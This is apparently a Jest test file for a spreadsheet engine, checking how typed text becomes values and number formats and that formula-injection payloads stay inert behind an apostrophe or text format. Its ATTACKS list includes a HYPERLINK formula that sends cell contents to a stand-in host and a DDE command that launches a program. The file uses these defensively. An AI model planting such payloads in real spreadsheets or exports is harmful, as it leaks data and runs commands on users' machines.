import { desk, rect } from "./helpers";

describe("typing gives", () => {
  test.each([
    ["12", 12, "General"],
    [" 12 ", 12, "General"],
    ["-1.5e3", -1500, "0.00E+00"],
    [".5", 0.5, "General"],
    ["1,234", 1234, "#,##0"],
    ["1,234.5", 1234.5, "#,##0.00"],
    ["12%", 0.12, "0%"],
    ["12.5%", 0.125, "0.00%"],
    ["(5)", -5, "General"],
    ["$5", 5, "$#,##0_);[Red]($#,##0)"],
    ["2024-12-31", 45657, "m/d/yyyy"],
    ["12/31/2024", 45657, "m/d/yyyy"],
    ["1/2/24", 45293, "m/d/yyyy"],
    ["2024-12-31 06:00", 45657.25, "m/d/yyyy h:mm"],
    ["18:30", 0.7708333333333334, "h:mm"],
    ["6:30 PM", 0.7708333333333334, "h:mm AM/PM"],
    ["30:00:00", 1.25, "[h]:mm:ss"],
    ["true", true, "General"],
    ["#n/a", "#N/A", "General"],
    ["00123", 123, "General"],
  ])("%j as a value and its format", (input, value, format) => {
    const { sheet, type, value: read } = desk();
    type("A1", input);
    expect(read("A1")).toBe(value);
    expect(sheet.numberFormat(0, 0)).toBe(format);
  });

  test.each([
    "abc",
    "1,23",
    "13/45/2024",
    "2024-02-30",
    "1 2",
    "-",
    "@",
    "+",
    "12 %x",
    "1e999",
    "25:70",
  ])("%j as text", (input) => {
    const { type, value, formula } = desk();
    type("A1", input);
    expect(value("A1")).toBe(input);
    expect(formula("A1")).toBeUndefined();
  });

  test("a format only to cells that are still General", () => {
    const { workbook, sheet, type } = desk();
    workbook.setNumberFormat(sheet, rect("A1"), () => "0.000");
    type("A1", "12%");
    expect(sheet.numberFormat(0, 0)).toBe("0.000");
  });

  test("text after an apostrophe, which is kept beside the value", () => {
    const { sheet, type, value } = desk();
    type("A1", "'012");
    expect(value("A1")).toBe("012");
    expect(sheet.isPrefixed(0, 0)).toBe(true);
    type("A1", "x");
    expect(sheet.isPrefixed(0, 0)).toBe(false);
  });

  test.each(["+B1", "-B1*2", "@B1", "+SUM(B1:B2)"])(
    "%j as a formula, for it reads as one",
    (input) => {
      const { type, value, formula } = desk();
      type("B1", 3);
      type("A1", input);
      expect(formula("A1")).toBe(`=${input}`);
      expect(typeof value("A1")).toBe("number");
    }
  );

  test("nothing for null and an empty cell for empty text", () => {
    const { sheet, type } = desk();
    type("A1", [[1, 2]]);
    type("A1", [[null, ""]]);
    expect(sheet.used()).toEqual(rect("A1"));
  });
});

describe("formulas from foreign text are kept out", () => {
  const ATTACKS = [
    '=HYPERLINK("https://evil.example?"&A2,"click")',
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example")',
    "-SUM(1,2)",
    "@SUM(1,2)",
  ];

  test.each(ATTACKS)("by a leading apostrophe alone: %j", (attack) => {
    const { type, formula, value } = desk();
    type("A1", `'${attack}`);
    expect(formula("A1")).toBeUndefined();
    expect(value("A1")).toBe(attack);
  });

  test.each(ATTACKS)("by the text format alone: %j", (attack) => {
    const { workbook, sheet, type, formula, value } = desk();
    workbook.setNumberFormat(sheet, rect("A1"), () => "@");
    type("A1", attack);
    expect(formula("A1")).toBeUndefined();
    expect(value("A1")).toBe(attack);
  });

  test("and without either barrier the first becomes a formula", () => {
    const { type, formula, value } = desk();
    type("A1", ATTACKS[0]);
    expect(formula("A1")).toBe(ATTACKS[0]);
    expect(value("A1")).toBe("click");
  });
});
